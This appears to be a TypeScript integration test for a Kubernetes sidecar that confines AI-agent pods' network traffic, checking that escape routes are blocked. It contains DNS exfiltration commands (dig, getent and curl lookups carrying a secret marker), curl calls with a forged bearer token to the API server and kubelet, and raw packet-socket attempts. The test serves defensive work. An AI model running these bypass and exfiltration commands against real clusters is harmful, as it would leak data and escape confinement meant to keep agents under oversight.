/**
 * Ways out of a pod that go around the sidecar. The node notes where packets of each pod go: of the injected pod, whatever its
 * containers try, to the controller and nowhere else; of the same container in a pod that is not injected, and may do no more,
 * to every target. What takes a capability that neither has goes there from a pod of root, which has it. IDs are those of the
 * bypasses in SECURITY.md.
 */

import { execFile } from 'node:child_process';
import { promisify } from 'node:util';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { SIDECAR_PORTS } from '../../core/api/pod-layout.ts';
import type { KubeObject } from '../support/api-client.ts';
import { type AgentNamespace, useAgentNamespace } from '../support/node/agent-namespaces.ts';
import type { AgentPod } from '../support/node/agent-pod.ts';
import { attempt, type Outcomes } from '../support/node/attempts.ts';
import {
  API_SERVICE_ADDRESSES,
  DNS_SERVICE_ADDRESSES,
  KUBELET_PORT,
  NODE_ADDRESSES,
} from '../support/node/layout.ts';
import { NodeCluster } from '../support/node/node-cluster.ts';
import {
  ATTACKS,
  type Attack,
  EPERM,
  overTCP,
  PINGED,
  RAW,
  sendingStep,
  TCP,
  UDP,
} from '../support/node/packet-attacks.ts';
import { type Flow, type PacketWatch, watchPackets } from '../support/node/packets.ts';
import { ensureInstalled } from '../support/node/release.ts';
import {
  confinedSpec,
  place,
  STRONGEST,
  startPod,
  strongestSpec,
} from '../support/node/walled-pods.ts';
import type { Step } from '../support/raw-sockets.ts';

const run = promisify(execFile);
const AF_PACKET = 17;
/** Of the controller's pods, behind their Service's 443. */
const EXCHANGE_PORT = 8443;
const OPERATIONS_PORT = 8080;

const PACKET_SOCKET = { packet: [['socket', 'a', AF_PACKET, RAW, 0x300]] satisfies Step[] };

const [NODE] = NODE_ADDRESSES;
const [API] = API_SERVICE_ADDRESSES;
// The sidecar itself asks it for the controller: what is asked there is in the server's log.
const [DNS] = DNS_SERVICE_ADDRESSES;
/** In every name that is asked for. */
const SECRET = 'walking-secret';

const DNS_COMMANDS: Readonly<Record<string, readonly string[]>> = {
  'its own resolver': ['getent', 'ahosts', `a.${SECRET}.example.net`],
  'a TXT record': ['dig', '+tries=1', '+time=1', 'TXT', `b.${SECRET}.example.net`],
  "the cluster's server": ['dig', '+tries=1', '+time=1', `@${DNS}`, `c.${SECRET}.example.net`],
  'the same over TCP': ['dig', '+tcp', '+tries=1', '+time=1', `@${DNS}`, `d.${SECRET}.example.net`],
  'a search domain': ['dig', '+search', '+tries=1', '+time=1', `e.${SECRET}`],
  'the server on the node': ['dig', '+tries=1', '+time=1', `@${NODE}`, `f.${SECRET}.example.net`],
  'a call that is refused': [
    'curl',
    '-sS',
    '-m5',
    `https://g.${SECRET}.example.net/dns-query?dns=A`,
  ],
  'a call to plain HTTP': ['curl', '-sS', '-m5', `http://h.${SECRET}.example.net/`],
};

interface RunningPod extends KubeObject {
  readonly spec: {
    readonly containers: readonly { readonly name: string; readonly securityContext?: object }[];
  };
}

interface PodList {
  readonly metadata: never;
  readonly items: readonly { readonly status: { readonly podIP: string } }[];
}

const cluster = new NodeCluster(inject('node'));
let agents: AgentNamespace;
let plain: string;
let watch: PacketWatch;
/** Differs from the injected one in nothing but that it is not. */
let bare: AgentPod;
/** As containers are by default: root, with the capabilities of the runtime. Admission lets no such one into an injected pod. */
let root: AgentPod;
let injected: AgentPod;
let controllerIP: string;
let bareOutcomes: Outcomes;
let rootOutcomes: Outcomes;
/** Of the two containers of the injected pod. */
let outcomes: Readonly<Record<'agent' | typeof STRONGEST, Outcomes>>;
let bareFlows: readonly Flow[];
let rootFlows: readonly Flow[];
let flows: readonly Flow[];
let dnsMark: number;
/** What is where only this run knows. */
let found: readonly Attack[];
const FOUND = ["the controller's exchange", "the controller's metrics", 'another pod'] as const;

beforeAll(async () => {
  await ensureInstalled(cluster);
  agents = await useAgentNamespace(cluster);
  plain = await cluster.createNamespace('outside');
  const service = await cluster.api<KubeObject & { spec: { clusterIP: string } }>(
    'GET',
    '/api/v1/namespaces/actiongrant-system/services/actiongrant-controller',
  );
  controllerIP = service.spec.clusterIP;
  watch = await watchPackets();
  dnsMark = cluster.dnsMark();
  let other: AgentPod;
  [bare, root, other, injected] = await Promise.all([
    startPod(cluster, plain, 'bare', confinedSpec(cluster)),
    startPod(cluster, plain, 'root'),
    startPod(cluster, plain, 'other'),
    startPod(cluster, agents.name, 'walled', strongestSpec(cluster)),
  ]);
  const { items: controllers } = await cluster.api<PodList>(
    'GET',
    '/api/v1/namespaces/actiongrant-system/pods?labelSelector=app.kubernetes.io/component%3Dcontroller',
  );
  const controller = controllers[0]?.status.podIP ?? '';
  found = [
    overTCP(FOUND[0], controller, EXCHANGE_PORT),
    overTCP(FOUND[1], controller, OPERATIONS_PORT),
    overTCP(FOUND[2], other.addresses[0] ?? '', 8080),
  ];
  // Until one is answered: a pod just started may not have its IPv6 neighbours yet.
  const pings = {
    ping: ['ping', '-c1', '-w10', PINGED.ipv4],
    'ping over IPv6': ['ping', '-6', '-c1', '-w10', PINGED.ipv6],
  };
  const attempts = {
    steps: stepsOf([...ATTACKS, ...found]),
    commands: { ...DNS_COMMANDS, ...pings },
  };
  await Promise.all([allowPing(bare), allowPing(injected)]);
  const [ofBare, ofRoot, ofAgent] = await Promise.all([
    attempt(cluster, place(bare), attempts),
    attempt(cluster, place(root), {
      steps: { ...stepsOf(ATTACKS.filter(({ needs }) => needs !== undefined)), ...PACKET_SOCKET },
      commands: pings,
    }),
    attempt(cluster, place(injected), attempts),
  ]);
  bareOutcomes = ofBare;
  rootOutcomes = ofRoot;
  outcomes = {
    agent: ofAgent,
    [STRONGEST]: await attempt(cluster, place(injected, STRONGEST), attempts),
  };
  bareFlows = await watch.flows(ipv4(bare));
  rootFlows = await watch.flows(ipv4(root));
  flows = await watch.flows(ipv4(injected));
}, 180_000);

afterAll(async () => {
  await watch?.close();
  await agents?.release();
  if (plain !== undefined) await cluster.api('DELETE', `/api/v1/namespaces/${plain}`);
  await cluster.disconnect();
});

describe('no packet reaches the node', () => {
  it('of a container that may do no more than the one that they do reach the node of', async () => {
    const contexts = await Promise.all([bare, injected].map(securityContextOf));
    expect(contexts[0]).toMatchObject({ runAsNonRoot: true, capabilities: { drop: ['ALL'] } });
    expect(contexts[1]).toEqual(contexts[0]);
  });

  it.each(ATTACKS)('$name', (one) => {
    const { name, to, fails, needs } = one;
    expect(needs === undefined ? bareFlows : rootFlows).toContainEqual(to);
    expect(flows).not.toContainEqual(to);
    if (needs === undefined) expectOnlySendingToDiffer(one);
    // Nor is it the filter that refuses it.
    else expect(bareOutcomes.steps(name)[0]).toBe(EPERM);
    if (fails === undefined) return;
    for (const container of ['agent', STRONGEST] as const) {
      expect(outcomes[container].steps(name)[fails[0]]).toBe(fails[1]);
    }
  });

  it.each(FOUND)('B3 to %s, by its own address', (name) => {
    const one = found.find((candidate) => candidate.name === name) as Attack;
    expect(bareFlows).toContainEqual(one.to);
    expect(flows).not.toContainEqual(one.to);
    expectOnlySendingToDiffer(one);
  });

  it('whatever was tried, but for what the sidecar has to say to the controller', () => {
    const allowed: readonly Flow[] = [
      { protocol: TCP, address: controllerIP, port: 443 },
      { protocol: UDP, address: DNS, port: 53 },
    ];
    expect(flows.filter((flow) => !allowed.some((one) => same(one, flow)))).toEqual([]);
  });

  it.each(['ping', 'ping over IPv6'])(
    'B3 %s, whose program has a capability of its own',
    (name) => {
      expect(rootOutcomes.command(name)).toMatchObject({ code: 0 });
      for (const tried of [bareOutcomes, outcomes.agent, outcomes[STRONGEST]]) {
        expect(tried.command(name)).toMatchObject({ code: 126 });
      }
    },
  );

  it('B1 a packet socket is not to be had', async () => {
    expect(rootOutcomes.steps('packet')).toEqual([0]);
    for (const container of ['agent', STRONGEST]) {
      const tried = await attempt(cluster, place(injected, container), { steps: PACKET_SOCKET });
      expect(tried.steps('packet')).toEqual([EPERM]);
    }
  });
});

describe('B4 DNS exfiltration', () => {
  it.each('abcdefgh'.split('').map((letter, index) => [Object.keys(DNS_COMMANDS)[index], letter]))(
    'over %s (%s): asked outside the pod by nobody',
    (_name, letter) => {
      const asked = cluster
        .dnsQuestions(dnsMark)
        .filter(({ name }) => name.startsWith(`${letter}.${SECRET}`))
        .map(({ client }) => client);
      expect(asked).toContain(ipv4(bare));
      for (const ip of injected.addresses) expect(asked).not.toContain(ip);
    },
  );

  it('the pod asked for nothing but the controller', () => {
    const names = cluster
      .dnsQuestions(dnsMark)
      .filter(({ client }) => injected.addresses.includes(client))
      .map(({ name }) => name);
    for (const name of names)
      expect(name).toMatch(/^actiongrant-controller\.actiongrant-system\.svc/);
  });
});

describe("the sidecar's own server", () => {
  it('B4 asked over loopback at its own port, knows synthetic addresses and nothing else', async () => {
    const dig = ['dig', '+tries=1', '+time=2', '@127.0.0.1', `-p${SIDECAR_PORTS.dns}`];
    const name = `i.${SECRET}.example.net`;
    for (const transport of ['+notcp', '+tcp']) {
      const { stdout } = await injected.run([...dig, transport, '+short', name]);
      expect(stdout).toMatch(/^198\.1[89]\.\d+\.\d+\n$/);
    }
    const { stdout } = await injected.run([...dig, 'TXT', name]);
    expect(stdout).toMatch(/status: NOERROR.*ANSWER: 0/s);
    expect(
      cluster.dnsQuestions(dnsMark).filter((asked) => asked.name.startsWith(`i.${SECRET}`)),
    ).toEqual([]);
  });
});

describe('the sidecar answers in the place of who was called', () => {
  const calls = {
    "the controller's exchange": 'https://actiongrant-controller.actiongrant-system.svc/v1/uses',
    "the controller's admission":
      'https://actiongrant-controller.actiongrant-system.svc/admission/inject-pod',
    'the API server': `https://${API}/api/v1/nodes`,
    'what the sidecar is told':
      'https://kubernetes.default.svc/api/v1/namespaces/default/configmaps/actiongrant-sidecar',
    "the kubelet's pods": `https://${NODE}:${KUBELET_PORT}/pods`,
  };

  it('and refuses, while outside they answer themselves', async () => {
    const commands = Object.fromEntries(
      Object.entries(calls).map(([name, url]) => [
        name,
        // The pod's CA verifies every answer: so it is the sidecar's.
        ['curl', '-sS', '-m8', '-XPOST', '-d{}', '-HAuthorization: Bearer forged', url],
      ]),
    );
    const unverified = Object.fromEntries(
      Object.entries(commands).map(([name, line]) => [name, [...line, '-k', '-w%{http_code}']]),
    );
    const [inside, outside] = await Promise.all([
      attempt(cluster, place(injected), { commands }),
      attempt(cluster, place(bare), { commands: unverified }),
    ]);
    for (const name of Object.keys(calls)) {
      const { stdout, stderr } = inside.command(name);
      expect(`${name}: ${stdout}${stderr}`).toMatch(
        /actiongrant\.dev\/|ActionGrant refused the call/,
      );
      const { stdout: answer } = outside.command(name);
      expect(`${name}: ${answer}`).toMatch(/(?:200|400|401|403|404|405|415)$/);
      expect(answer).not.toContain('ActionGrant refused the call');
    }
  });

  it('B12 its operations port is for the kubelet, not for the agent', async () => {
    const url = `http://127.0.0.1:${SIDECAR_PORTS.operations}/readyz`;
    const fromInside = await cluster.exec(injected.namespace, injected.name, [
      ...['curl', '-sS', '-m3', url],
    ]);
    expect(fromInside).toMatchObject({ code: 7 });
    const fromOutside = await cluster.exec(bare.namespace, bare.name, [
      ...['curl', '-sSf', '-m3', url.replace('127.0.0.1', ipv4(injected))],
    ]);
    expect(fromOutside).toMatchObject({ code: 0 });
  });
});

/** As a containerd with enable_unprivileged_icmp sets it up: every user of the pod may have a socket for ICMP echoes. */
async function allowPing({ namespace, name }: AgentPod): Promise<void> {
  const { pid } = await cluster.containerProcess(namespace, name, 'agent');
  const setting = 'net.ipv4.ping_group_range=0 2147483647';
  await run('nsenter', [`--target=${pid}`, '--net', 'sysctl', '-w', setting]);
}

/** Whatever an attack prepares must work as it does where nothing holds it: then it is the packet that is held. */
function expectOnlySendingToDiffer(one: Attack): void {
  const before = (tried: Outcomes) => tried.steps(one.name).slice(0, sendingStep(one));
  const prepared = before(bareOutcomes);
  for (const result of prepared) expect(`${result}`).not.toMatch(/^(?:E[A-Z]|no such)/);
  for (const container of ['agent', STRONGEST] as const) {
    expect(before(outcomes[container])).toEqual(prepared);
  }
}

function stepsOf(attacks: readonly Attack[]): Readonly<Record<string, readonly Step[]>> {
  return Object.fromEntries(attacks.map(({ name, steps }) => [name, steps]));
}

/** Of the container `agent`. */
async function securityContextOf({ namespace, name }: AgentPod): Promise<object> {
  const path = `/api/v1/namespaces/${namespace}/pods/${name}`;
  const { spec } = await cluster.api<RunningPod>('GET', path);
  const agent = spec.containers.find((container) => container.name === 'agent');
  return agent?.securityContext ?? {};
}

function same(one: Flow, other: Flow): boolean {
  return (
    one.protocol === other.protocol && one.address === other.address && one.port === other.port
  );
}

function ipv4({ addresses }: AgentPod): string {
  return addresses[0] ?? '';
}
